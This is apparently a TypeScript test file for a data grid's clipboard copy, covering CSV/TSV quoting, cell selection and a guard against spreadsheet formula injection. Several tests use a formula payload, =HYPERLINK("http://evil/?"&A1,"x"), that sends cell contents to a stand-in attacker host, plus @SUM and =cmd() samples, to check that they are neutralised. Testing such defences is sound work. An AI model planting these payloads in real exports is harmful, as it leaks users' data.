import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { CellValue, RowPage } from "./api";
import { csvField, cut, formatRows, formulaGuard, MAX_COPY_ROWS, selectionBetween, selects, toCsv, toTsv, tsvField } from "./copy";
import { ResultGrid } from "./grid";
import { frame, gridRoot, succeeded } from "./test-results";

describe("CSV (RFC 4180)", () => {
  it("quotes commas, quotes and line breaks, and keeps NULL apart from empty text", () => {
    expect(csvField(null)).toBe("");
    expect(csvField("")).toBe('""');
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r\nlf")).toBe('"cr\r\nlf"');
    expect(csvField("tab\tstays")).toBe("tab\tstays");
    expect(csvField(true)).toBe("true");
    expect(csvField(-1.5)).toBe("-1.5");
    expect(toCsv([[1, null, "x,y"], [2, "", 'q"']], ["n", "s", "t, u"])).toBe('n,s,"t, u"\r\n1,,"x,y"\r\n2,"","q"""\r\n');
  });
});

describe("records", () => {
  it("keep a last row holding only NULL or empty text: every record ends with its line break", () => {
    // Read back as a spreadsheet or a CSV reader does: split on the terminator, the text after
    // the last one is not a record.
    const rowsOf = (text: string, end: string) => text.split(end).slice(0, -1);
    expect(rowsOf(toCsv([["a"], [null]], ["x"]), "\r\n")).toEqual(["x", "a", ""]);
    expect(rowsOf(toCsv([["a"], [""]], ["x"]), "\r\n")).toEqual(["x", "a", '""']);
    expect(rowsOf(toTsv([["a"], [null]], ["x"]), "\n")).toEqual(["x", "a", ""]);
    expect(rowsOf(toTsv([[""], [""]]), "\n")).toEqual(["", ""]);
  });

  it("leave one lone value bare, to paste into a text field", () => {
    expect(toTsv([["just this"]])).toBe("just this");
    expect(toCsv([["a,b"]])).toBe('"a,b"');
  });
});

describe("TSV", () => {
  it("writes NULL as empty and quotes what would break a line or a field", () => {
    expect(tsvField(null)).toBe("");
    expect(tsvField(false)).toBe("false");
    expect(tsvField(-1.5)).toBe("-1.5");
    expect(tsvField("a\tb")).toBe('"a\tb"');
    expect(tsvField('say "hi"\nbye')).toBe('"say ""hi""\nbye"');
    expect(tsvField("plain, with comma")).toBe("plain, with comma");
    expect(toTsv([[1, null, "x"], [2, "", true]], ["n", "s", "t"])).toBe("n\ts\tt\n1\t\tx\n2\t\ttrue\n");
  });

  it("selects rectangles, whole rows from a row number and whole columns from a header", () => {
    expect(selectionBetween({ row: 5, column: 2 }, { row: 3, column: 0 }, 4, 10)).toEqual({ firstRow: 3, lastRow: 5, firstColumn: 0, lastColumn: 2 });
    expect(selectionBetween({ row: -1, column: 2 }, { row: -1, column: 1 }, 4, 10)).toEqual({ firstRow: 0, lastRow: 9, firstColumn: 1, lastColumn: 2 });
    expect(selectionBetween({ row: -1, column: -1 }, { row: -1, column: -1 }, 4, 10)).toEqual({ firstRow: 0, lastRow: 9, firstColumn: 0, lastColumn: 3 });
    const rows = selectionBetween({ row: 1, column: -1 }, { row: 2, column: 1 }, 4, 10);
    expect(rows).toEqual({ firstRow: 1, lastRow: 2, firstColumn: 0, lastColumn: 3 });
    expect(selects(rows, 2, 3)).toBe(true);
    expect(selects(rows, 3, 0)).toBe(false);
    expect(selects(null, 0, 0)).toBe(false);
    expect(cut([[1, 2, 3, 4]], { firstRow: 0, lastRow: 0, firstColumn: 1, lastColumn: 2 })).toEqual([[2, 3]]);
  });
});

describe("the formula guard", () => {
  it("puts a ' before text starting with each character a spreadsheet starts a formula with", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(formulaGuard(`${start}1+1`)).toBe(`'${start}1+1`);
      expect(formulaGuard(start)).toBe(`'${start}`);
    }
    expect(formulaGuard('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
  });

  it("leaves other text, and every number, boolean and NULL, as it is", () => {
    // As Export: only the first character counts, and only text can be a formula.
    for (const text of ["plain", "a=b", " =1", "\n=1", "'=1", "", "1-2", "ünï ☃"]) expect(formulaGuard(text)).toBe(text);
    for (const value of [-5, -0.5, 0, 3, true, false, null, undefined]) expect(formulaGuard(value)).toBe(value);
    expect(formatRows("tsv", [[-7, -0.5, false, null]], ["n", "f", "b", "z"])).toEqual({ text: "n\tf\tb\tz\n-7\t-0.5\tfalse\t\n", guardedValues: 0, guardedNames: 0 });
  });

  it("writes CSV as Export does, the guarded value quoted when it holds a quote or comma", () => {
    // The rows and the expected text of `csv_guards_text_that_a_spreadsheet_would_run_as_a_formula`
    // in crates/results/src/export.rs: the clipboard and the exported file agree.
    const rows: CellValue[][] = [
      ['=HYPERLINK("http://x","y")', "+1"],
      ["-2+3", "@SUM(A1)"],
      ["\tx", "a=b"],
      [-7, -0.5],
      ["-12.50", "-12.5.0"],
      ["-1e5", "-.5"],
    ];
    expect(formatRows("csv", rows, ["a", "b"])).toEqual({
      text: "a,b\r\n\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",'+1\r\n'-2+3,'@SUM(A1)\r\n'\tx,a=b\r\n-7,-0.5\r\n-12.50,'-12.5.0\r\n'-1e5,'-.5\r\n",
      guardedValues: 8,
      guardedNames: 0,
    });
    expect(formatRows("csv", [["\r=1", null, ""]]).text).toBe("\"'\r=1\",,\"\"");
  });

  it("guards TSV too, quoting a guarded value that holds a tab, a line break or a quote", () => {
    const rows: CellValue[][] = [
      ['=HYPERLINK("http://evil/?"&A1,"x")', "\tx", "-1\n2"],
      ["@a", -3, null],
    ];
    expect(formatRows("tsv", rows, ["a", "b", "c"])).toEqual({
      text: `a\tb\tc\n"'=HYPERLINK(""http://evil/?""&A1,""x"")"\t"'\tx"\t"'-1\n2"\n'@a\t-3\t\n`,
      guardedValues: 4,
      guardedNames: 0,
    });
  });

  it("guards column names as Export's header row, and a lone cell", () => {
    expect(formatRows("tsv", [["x", 1]], ["=cmd()", "-n"])).toEqual({ text: "'=cmd()\t'-n\nx\t1\n", guardedValues: 0, guardedNames: 2 });
    expect(formatRows("csv", [["+1"]], ["-n"])).toEqual({ text: "'-n\r\n'+1\r\n", guardedValues: 1, guardedNames: 1 });
    expect(formatRows("tsv", [["=1+1"]])).toEqual({ text: "'=1+1", guardedValues: 1, guardedNames: 0 });
  });

  it("copies as-is when asked: nothing changed, nothing counted", () => {
    const rows: CellValue[][] = [["=1+1", "@x\ty"], [-1, null]];
    expect(formatRows("tsv", rows, ["=h", "b"], "as-is")).toEqual({ text: '=h\tb\n=1+1\t"@x\ty"\n-1\t\n', guardedValues: 0, guardedNames: 0 });
    expect(formatRows("csv", rows, ["=h", "b"], "as-is").text).toBe("=h,b\r\n=1+1,@x\ty\r\n-1,\r\n");
  });
});

const RESULT = succeeded([
    { name: "id", dataType: "bigint" },
    { name: "note", dataType: "varchar" },
    { name: "ok", dataType: "boolean" },
  ], 10_000, 1, 1);

function rows(offset: number, limit: number): CellValue[][] {
  return Array.from({ length: limit }, (_, i) => [offset + i, i % 2 === 0 ? `note\t${offset + i}` : null, true]);
}


describe("copying from the grid", () => {
  let root: HTMLElement;
  beforeEach(() => {
    root = gridRoot();
  });
  afterEach(() => {
    document.body.innerHTML = "";
  });

  function grid(copy = vi.fn((_: string) => Promise.resolve())) {
    const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: rows(offset, limit) }));
    const onError = vi.fn();
    const onCopied = vi.fn();
    const g = new ResultGrid(root, { fetchRows, onError, copy, onCopied, overscan: 2 });
    g.show(RESULT);
    return { g, fetchRows, onError, onCopied, copy };
  }

  it("copies a clicked cell alone, with Ctrl+C", async () => {
    const { onCopied, copy } = grid();
    await frame();
    const cell = root.querySelector<HTMLElement>('.grid-row[data-index="2"] .grid-cell[data-column="1"]');
    cell?.click();
    expect(cell?.classList.contains("is-selected")).toBe(true);
    expect(cell?.getAttribute("aria-selected")).toBe("true");
    root.dispatchEvent(new KeyboardEvent("keydown", { key: "c", ctrlKey: true, bubbles: true }));
    await vi.waitFor(() => expect(copy).toHaveBeenCalledWith('"note\t2"'));
    expect(onCopied).toHaveBeenCalledWith("Copied the cell.");
  });

  it("copies rows picked by their numbers, with Shift+click, as TSV with a header", async () => {
    const { g, copy, fetchRows } = grid();
    await frame();
    root.querySelector<HTMLElement>('.grid-row[data-index="0"] .grid-rownum')?.click();
    root.querySelector<HTMLElement>('.grid-row[data-index="1"] .grid-cell[data-column="0"]')?.dispatchEvent(new MouseEvent("click", { bubbles: true, shiftKey: true }));
    expect(g.selection).toEqual({ firstRow: 0, lastRow: 1, firstColumn: 0, lastColumn: 2 });
    const text = await g.copySelection();
    expect(text).toBe('id\tnote\tok\n0\t"note\t0"\ttrue\n1\t\ttrue\n');
    expect(copy).toHaveBeenCalledWith(text);
    expect(fetchRows).toHaveBeenLastCalledWith("r1", 0, 2);
  });

  it("fetches a selection beyond the rows in view, and refuses one too large for a copy", async () => {
    const { g, fetchRows, onError } = grid();
    await frame();
    g.select({ row: 100, column: 0 }, { row: 102, column: 0 });
    expect(await g.copySelection()).toBe("id\n100\n101\n102\n");
    expect(fetchRows).toHaveBeenLastCalledWith("r1", 100, 3);
    g.select({ row: 0, column: -1 }, { row: MAX_COPY_ROWS, column: -1 });
    expect(await g.copySelection()).toBeNull();
    expect(onError).toHaveBeenCalledWith(expect.stringContaining("use Export for the whole result"));
  });

  it("says when the clipboard refused", async () => {
    const { g, onError } = grid(vi.fn(() => Promise.reject(new Error("denied"))));
    await frame();
    g.select({ row: 0, column: 0 });
    expect(await g.copySelection()).toBeNull();
    expect(onError).toHaveBeenCalledWith(expect.stringContaining("Could not copy."));
  });
});

describe("copying from the grid with the formula guard", () => {
  const HOSTILE = succeeded([
      { name: "n", dataType: "bigint" },
      { name: "note", dataType: "varchar" },
    ], 3, 1, 1);
  const HOSTILE_ROWS: CellValue[][] = [
    [-5, '=HYPERLINK("http://evil/?"&A1,"x")'],
    [3, "plain"],
    [-1, "@SUM(A1)"],
  ];
  let root: HTMLElement;
  beforeEach(() => {
    root = gridRoot();
  });
  afterEach(() => {
    document.body.innerHTML = "";
  });

  async function grid(result = HOSTILE) {
    const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: HOSTILE_ROWS.slice(offset, offset + limit) }));
    const copy = vi.fn((_: string) => Promise.resolve());
    const onCopied = vi.fn();
    const g = new ResultGrid(root, { fetchRows, onError: vi.fn(), copy, onCopied, overscan: 2 });
    g.show(result);
    await frame();
    const press = (init: KeyboardEventInit) => root.dispatchEvent(new KeyboardEvent("keydown", { key: "c", ctrlKey: true, bubbles: true, ...init }));
    return { g, copy, onCopied, press };
  }

  it("guards Ctrl+C (TSV) and Ctrl+Shift+C (CSV) and says how many values it changed", async () => {
    const { g, copy, onCopied, press } = await grid();
    g.select({ row: 0, column: -1 }, { row: 2, column: -1 });
    press({});
    await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(1));
    expect(copy).toHaveBeenLastCalledWith(`n\tnote\n-5\t"'=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t'@SUM(A1)\n`);
    await vi.waitFor(() =>
      expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV; 2 values starting like a formula got a leading ' (menu: Copy values as-is)."),
    );
    press({ key: "C", shiftKey: true });
    await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(2));
    expect(copy).toHaveBeenLastCalledWith(`n,note\r\n-5,"'=HYPERLINK(""http://evil/?""&A1,""x"")"\r\n3,plain\r\n-1,'@SUM(A1)\r\n`);
    g.destroy();
  });

  it("guards a lone cell too, and leaves a negative number and plain text alone", async () => {
    const { g, copy, onCopied, press } = await grid();
    g.select({ row: 2, column: 1 });
    press({});
    await vi.waitFor(() => expect(copy).toHaveBeenLastCalledWith("'@SUM(A1)"));
    await vi.waitFor(() =>
      expect(onCopied).toHaveBeenLastCalledWith("Copied the cell; it starts like a formula and got a leading ' (menu: Copy values as-is)."),
    );
    g.select({ row: 0, column: 0 });
    press({});
    await vi.waitFor(() => expect(copy).toHaveBeenLastCalledWith("-5"));
    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied the cell."));
    g.select({ row: 1, column: 0 }, { row: 1, column: 1 });
    expect(await g.copySelection()).toBe("n\tnote\n3\tplain\n");
    expect(onCopied).toHaveBeenLastCalledWith("Copied 1 row as TSV.");
    g.destroy();
  });

  it("guards a copied column name and counts it apart from the values", async () => {
    const { g, onCopied } = await grid(succeeded([
        { name: "-n", dataType: "bigint" },
        { name: "note", dataType: "varchar" },
      ], 3, 1, 1));
    g.select({ row: 1, column: 0 }, { row: 2, column: 1 });
    expect(await g.copySelection("csv")).toBe("'-n,note\r\n3,plain\r\n-1,'@SUM(A1)\r\n");
    expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as CSV; 1 value and 1 column name starting like a formula got a leading ' (menu: Copy values as-is).");
    g.destroy();
  });

  it("lets only the newest of two copies in flight reach the clipboard", async () => {
    const pages: Array<(page: RowPage) => void> = [];
    const fetchRows = vi.fn((_id: string, _offset: number, _limit: number) => new Promise<RowPage>((resolve) => pages.push(resolve)));
    const copy = vi.fn((_: string) => Promise.resolve());
    const onCopied = vi.fn();
    const g = new ResultGrid(root, { fetchRows, onError: vi.fn(), copy, onCopied, overscan: 2 });
    g.show(HOSTILE);
    await frame();
    const resolveShown = pages.splice(0);
    resolveShown.forEach((resolve) => resolve({ rows: HOSTILE_ROWS }));
    await frame();
    g.select({ row: 0, column: 0 }, { row: 2, column: 1 });
    const guarded = g.copySelection("tsv");
    const asIs = g.copySelection("tsv", "as-is");
    expect(pages).toHaveLength(2);
    pages[1]({ rows: HOSTILE_ROWS });
    pages[0]({ rows: HOSTILE_ROWS });
    expect(await asIs).toBe(`n\tnote\n-5\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t@SUM(A1)\n`);
    expect(await guarded).toBeNull();
    expect(copy).toHaveBeenCalledTimes(1);
    expect(onCopied).toHaveBeenCalledTimes(1);
    expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV, values as-is (no formula guard).");
    g.destroy();
  });

  it("copies values as-is when asked, and says so", async () => {
    const { g, copy, onCopied } = await grid();
    g.select({ row: 0, column: 0 }, { row: 2, column: 1 });
    expect(await g.copySelection("tsv", "as-is")).toBe(`n\tnote\n-5\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t@SUM(A1)\n`);
    expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV, values as-is (no formula guard).");
    g.select({ row: 2, column: 1 });
    expect(await g.copySelection("csv", "as-is")).toBe("@SUM(A1)");
    expect(copy).toHaveBeenLastCalledWith("@SUM(A1)");
    expect(onCopied).toHaveBeenLastCalledWith("Copied the cell as CSV, as-is (no formula guard).");
    g.destroy();
  });
});
